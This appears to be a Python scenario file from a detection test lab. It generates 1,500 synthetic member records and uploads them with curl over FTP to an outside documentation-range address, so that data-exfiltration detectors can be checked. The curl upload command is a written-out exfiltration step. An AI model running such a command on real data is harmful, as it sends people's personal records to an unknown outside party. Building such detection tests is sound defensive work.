# SPDX-License-Identifier: Apache-2.0
"""A dump of 1,500 members by FTP to an address that nobody knows."""
from people import as_csv
from scenario import CONTENT_S, People, Scenario

SCENARIO = Scenario('Dump of 1,500 records by FTP', ('D02', ), 'high', allowed=('D01', 'D07', 'D13', 'D14'),
                    people=People(1_500, ('203.0.113.', )), explains=('bulk copy', ), within_s=CONTENT_S,
                    needs=('vsftpd', 'curl'), commitments=('C3a', 'C4a'))


def make(lab):
    from wrapping import servers
    servers.start_ftp(lab.outside, lab.outside.folder)
    path = lab.inside.file('members.csv', as_csv(lab.people(1_500, 'DE')))
    lab.mark()
    lab.inside.run('curl', '--silent', '--show-error', '--max-time', '60', '--interface', '10.30.0.9', '--upload-file',
                   path, 'ftp://203.0.113.66/in/members.csv')
